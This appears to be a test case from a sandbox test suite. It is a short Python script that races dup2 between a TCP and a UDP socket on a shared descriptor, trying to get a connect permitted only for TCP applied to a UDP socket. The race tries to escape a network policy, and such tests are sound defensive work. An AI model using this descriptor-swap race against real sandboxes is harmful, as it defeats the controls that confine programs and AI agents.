# SPDX-License-Identifier: Apache-2.0
# attack: an address that is granted to TCP alone, with a UDP socket in the place of the other one
# class: net
# wins: net
# needs: race
# options: --connect 127.0.0.1:%{udp4} --connect udp:127.0.0.1:%{service_udp}
from kit import *

import socket
tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
spare = os.dup(tcp.fileno())
stop = []


def swap():
    while not stop:
        os.dup2(udp.fileno(), spare)
        os.dup2(tcp.fileno(), spare)


tried()
thread = threading.Thread(target=swap)
thread.start()
addr = struct.pack('<H', 2) + struct.pack('>H', F['udp4']) + bytes([127, 0, 0, 1]) + bytes(8)


def one(i):
    sc('connect', spare, addr, 16)
    sc('sendto', udp.fileno(), b'x', 1, 0x40, 0, 0)
    return NATIVE and i > 2000


rounds(one)
stop.append(1)
thread.join()
